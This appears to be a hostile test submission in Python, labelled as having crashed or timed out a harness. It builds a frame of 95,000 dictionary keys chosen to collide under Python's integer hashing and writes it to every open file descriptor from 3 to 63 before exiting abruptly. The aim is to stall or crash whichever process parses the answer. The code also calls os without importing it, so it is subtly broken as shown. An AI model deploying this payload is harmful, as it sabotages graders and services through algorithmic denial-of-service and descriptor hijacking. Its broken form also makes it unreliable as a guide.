# verdict: crashed timeout failed
# threats: 15 34 36
"""An answer with a dict whose keys have all the same hash: whoever builds it compares each key with all others."""

import struct


def second(x):
    keys = b",".join(b'["i","%s"],0' % hex((2**61 - 1) * (number + 5)).encode() for number in range(95_000))
    tree = b'["d","id",2,"ok",["d",' + keys + b"]]"
    frame = struct.pack(">I", len(tree)) + tree
    frame = struct.pack(">I", len(frame)) + frame
    for descriptor in range(3, 64):
        try:
            view = memoryview(frame)
            while view:
                view = view[os.write(descriptor, view) :]
        except OSError:
            pass
    os._exit(0)
